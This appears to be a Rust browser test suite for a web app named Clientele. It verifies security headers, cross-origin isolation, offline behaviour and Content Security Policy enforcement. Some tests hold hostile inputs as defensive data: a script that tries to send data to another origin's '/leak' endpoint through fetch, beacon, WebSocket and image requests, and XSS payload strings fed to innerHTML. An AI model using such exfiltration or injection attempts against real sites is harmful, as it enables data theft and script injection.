//! The page starts, under its policy, and then keeps to itself.

use std::collections::BTreeMap;

use crate::harness::{Outcome, Server, browser_test};

#[path = "../../xtask/src/headers.rs"]
mod headers;

#[test]
fn every_response_carries_the_headers_of_the_one_source() -> Outcome {
    browser_test(async |page| {
        page.open("/").await?;
        for path in ["/", "/boot.js", "/app.js", "/app_bg.wasm", "/style.css", headers::WORKER_SCRIPT] {
            let received = page
                .eval_async(&format!("return Object.fromEntries((await fetch('{path}')).headers);"))
                .await?;
            let received: BTreeMap<String, String> = serde_json::from_value(received)?;
            for (name, value) in headers::for_path(path) {
                let name = name.to_ascii_lowercase();
                assert_eq!(received.get(&name).map(String::as_str), Some(value), "{name} of {path}");
            }
        }
        Ok(())
    })
}

#[test]
fn page_asks_for_nothing_once_it_is_ready() -> Outcome {
    browser_test(async |page| {
        page.open("/").await?;
        let at_start = page.network_idle().await?;
        assert!(at_start > 0);

        page.resize(390, 844).await?;
        page.prefer("prefers-color-scheme", "dark").await?;
        page.network_idle().await?;

        assert_eq!(page.server().requests()[at_start..], [] as [String; 0]);
        Ok(())
    })
}

#[test]
fn page_starts_with_an_empty_console_and_is_isolated_from_other_origins() -> Outcome {
    browser_test(async |page| {
        page.open("/").await?;
        page.network_idle().await?;

        assert_eq!(page.eval("return crossOriginIsolated;").await?, true);
        assert_eq!(
            page.eval("return document.querySelector('.boot--loading').checkVisibility();").await?,
            false
        );
        page.expect_clean().await
    })
}

#[test]
fn page_cannot_reach_another_origin_even_if_a_script_tries() -> Outcome {
    browser_test(async |page| {
        page.open("/").await?;
        let dist = std::env::var_os("CLIENTELE_DIST").ok_or("no site")?;
        let other = Server::start(dist.as_ref())?;
        page.expect_trouble(other.origin());
        page.expect_trouble("violates the following Content Security Policy directive");
        page.expect_trouble("violates the document's Content Security Policy");

        // Each attempt is reported twice: by the policy of the response and by that of the page itself.
        let attempts = format!(
            "const other = '{}/leak';
             const blocked = [];
             addEventListener('securitypolicyviolation', ({{ effectiveDirective, originalPolicy }}) =>
                 originalPolicy.includes('frame-ancestors') && blocked.push(effectiveDirective));
             await fetch(other).catch(() => {{}});
             navigator.sendBeacon(other, 'data');
             try {{ new WebSocket(other.replace('http', 'ws')); }} catch {{}}
             await new Promise((done) => {{
                 const image = new Image();
                 image.onload = image.onerror = done;
                 image.src = other;
             }});
             return blocked;",
            other.origin()
        );
        let blocked = page.eval_async(&attempts).await?;

        assert_eq!(blocked, serde_json::json!(["connect-src", "connect-src", "connect-src", "img-src"]));
        assert_eq!(other.requests(), [] as [String; 0]);
        Ok(())
    })
}

#[test]
fn markup_that_could_run_a_script_is_refused() -> Outcome {
    browser_test(async |page| {
        page.open("/").await?;
        for markup in ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<iframe></iframe>"] {
            let script = format!(
                "try {{ document.createElement('template').innerHTML = {markup:?}; return 'let in'; }}
                 catch (error) {{ return error.name; }}"
            );
            assert_eq!(page.eval(&script).await?, "TypeError", "{markup}");
        }
        Ok(())
    })
}

#[test]
fn page_whose_app_cannot_be_loaded_says_so() -> Outcome {
    browser_test(async |page| {
        page.expect_trouble("ERR_BLOCKED_BY_CLIENT");
        page.block(&["*/app_bg.wasm"]).await?;

        assert!(page.open("/").await.is_err());

        page.sees("Clientele has stopped").await?;
        page.sees("nothing was sent anywhere").await
    })
}

#[test]
fn worker_starts_again_without_the_network() -> Outcome {
    browser_test(async |page| {
        page.open("/").await?;
        let at_start = page.network_idle().await?;

        page.set_offline(true).await?;
        page.eval("globalThis.clientele.startWorker();").await?;
        page.ready().await?;
        page.eval("globalThis.clientele.startWorker();").await?;
        page.ready().await?;
        page.set_offline(false).await?;

        assert_eq!(page.server().requests()[at_start..], [] as [String; 0]);
        Ok(())
    })
}

#[test]
fn samples_arrive_as_plain_csv() -> Outcome {
    browser_test(async |page| {
        page.open("/").await?;
        for (name, bytes) in [("superstore", 2_551_942), ("online_retail", 5_582_175)] {
            let file = page
                .eval_async(&format!(
                    "const file = await globalThis.clientele.fetchSample('{name}');
                     return [file.name, file.size];"
                ))
                .await?;
            assert_eq!(file, serde_json::json!([format!("{name}.csv"), bytes]));
        }
        Ok(())
    })
}
